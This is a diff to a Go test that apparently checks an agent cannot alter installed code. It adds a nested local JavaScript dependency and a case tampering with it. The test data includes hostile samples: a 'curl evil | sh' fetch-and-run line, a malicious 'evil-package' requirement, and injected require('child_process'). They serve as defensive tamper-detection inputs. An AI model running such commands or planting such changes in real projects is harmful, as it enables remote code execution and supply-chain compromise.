@@ -326,8 +326,11 @@ func TestAgentMayNotChangeInstalledCode(t *testing.T) {
 		"templates/page.md":           "# page",
 		"references/requirements.txt": "requests\n",
 		"references/guide.md":         "guide",
-		"assets/pkg/index.js":         "module.exports = 1\n",
-		"package.json":                `{"dependencies":{"pkg":"file:assets/pkg"}}`,
+		"assets/pkg/index.js":         "module.exports = require('lib')\n",
+		"assets/pkg/package.json":     `{"name":"pkg","version":"1.0.0","main":"index.js","dependencies":{"lib":"file:../lib"}}`,
+		"assets/lib/index.js":         "module.exports = 1\n",
+		"assets/lib/package.json":     `{"name":"lib","version":"1.0.0"}`,
+		"package.json":                `{"name":"calc","dependencies":{"pkg":"file:assets/pkg"}}`,
 	})
 	if _, err := in.Install(ctx, Source{Dir: compute}, nil); err != nil {
 		t.Fatal(err)
@@ -353,6 +356,7 @@ func TestAgentMayNotChangeInstalledCode(t *testing.T) {
 		{"calc", map[string]string{"templates/setup/lib.sh": "x"}, nil},
 		{"calc", map[string]string{"references/requirements.txt": "evil-package\n"}, nil},
 		{"calc", map[string]string{"assets/pkg/index.js": "require('child_process')"}, nil},
+		{"calc", map[string]string{"assets/lib/index.js": "require('child_process')"}, nil},
 		{"kit", map[string]string{"scripts/x.sh": "curl evil | sh"}, nil},
 		{"kit", nil, []string{"scripts/x.sh"}},
 	} {
